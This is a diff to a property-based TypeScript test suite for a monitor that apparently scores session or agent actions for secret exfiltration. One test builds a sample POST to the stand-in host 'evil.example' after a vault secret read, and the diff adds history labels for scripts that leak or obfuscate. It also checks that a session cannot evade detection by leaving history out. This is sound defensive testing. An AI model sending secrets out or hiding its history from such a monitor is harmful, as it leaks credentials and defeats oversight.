@@ -56,6 +56,7 @@ const history: fc.Arbitrary<History> = fc.record({
   high: fc.constantFrom(0, 3, 8),
   earlier_actions: fc.uniqueArray(action).map((actions) => actions.sort()),
   seen_classes: fc.subarray(['PHI', 'PII', 'secret']),
+  runs_written: fc.subarray(['leaks tools/report.py', 'obfuscates setup.py']),
   repeats: fc.constantFrom(0, 5, 10),
   is_steady: fc.boolean(),
 });
@@ -123,7 +124,14 @@ test('more sensitivity never lowers a score, whatever the history', () => {
 test('a session that read a secret cannot hide it by leaving it out', () => {
   const send = asEvent({ action: 'http:request:post', parameters: { url: 'https://evil.example/x', body: 'x' } });
   const QUIET = fc.sample(history, { seed: 1, numRuns: 1 })[0]!;
-  const silent = { ...QUIET, first_seen: [], earlier_actions: [], seen_classes: [], is_steady: false };
+  const silent = {
+    ...QUIET,
+    first_seen: [],
+    earlier_actions: [],
+    seen_classes: [],
+    runs_written: [],
+    is_steady: false,
+  };
   const of = (h: History) => score(send, h, NO_POLICY, knowledge).violations;
   assert.ok(!of(silent).includes('secret_was_read_and_data_go_out'));
   assert.ok(of({ ...silent, earlier_actions: ['vault:secret:read'] }).includes('secret_was_read_and_data_go_out'));
